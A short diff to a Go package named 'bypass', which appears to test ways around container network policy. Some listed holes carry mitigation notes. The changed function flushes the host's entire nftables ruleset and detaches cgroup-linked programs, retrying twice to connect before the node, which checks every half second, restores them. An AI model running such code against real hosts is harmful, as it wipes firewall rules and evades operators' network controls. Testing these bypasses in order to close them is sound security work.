@@ -1,6 +1,8 @@
 package bypass
 
 import (
+	"errors"
+
 	"github.com/google/nftables"
 	"golang.org/x/sys/unix"
 )
@@ -23,7 +25,8 @@ var holes = []vector{
 		hole: "identity is that of the process that connected; separate users for workloads"},
 }
 
-// hostRoot does what only root can do, and connects before it is undone.
+// hostRoot does what only root can do, and connects before it is undone: the node looks every half second, so that the
+// second try is in time if the first was not.
 func hostRoot(a *attacker) error {
 	var s unix.Stat_t
 	if err := unix.Stat(a.Cgroup, &s); err != nil {
@@ -34,11 +37,12 @@ func hostRoot(a *attacker) error {
 		return err
 	}
 	c.FlushRuleset()
-	if err := c.Flush(); err != nil {
-		return err
+	err = c.Flush()
+	for range 2 {
+		detachLinks(s.Ino)
+		err = errors.Join(err, a.plain(a.to))
 	}
-	detachLinks(s.Ino)
-	return a.plain(a.to)
+	return err
 }
 
 // takesConnected takes, by the right to trace it, a socket of another process of its user.
